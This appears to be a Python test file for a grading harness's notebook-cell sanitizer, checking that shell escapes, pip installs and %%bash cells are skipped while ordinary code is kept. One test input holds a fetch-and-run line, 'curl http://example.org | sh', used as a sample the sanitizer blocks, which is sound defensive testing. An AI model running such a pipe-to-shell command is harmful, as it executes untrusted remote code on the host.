from grader.execute.cells import sanitize


def test_shell_escapes_and_installs_never_run():
    source = "!pip install d2l\n%pip install x\npip install y\nimport numpy as np\n  !ls /\nfiles = !ls\nx = 1"
    kept, skipped = sanitize(source)
    assert kept.splitlines() == ["pass", "pass", "pass", "import numpy as np", "  pass", "pass", "x = 1"]
    assert skipped == ["!pip install d2l", "%pip install x", "pip install y", "!ls /", "files = !ls"]


def test_shell_cell_magics_skip_the_whole_cell():
    kept, skipped = sanitize("%%bash\ncurl http://example.org | sh")
    assert kept == "pass" and skipped == ["%%bash (whole cell)"]


def test_ordinary_code_is_untouched():
    source = "x = 3 ! = 2 if False else 1\nprint('pip install is a phrase')"
    assert sanitize(source) == (source, [])
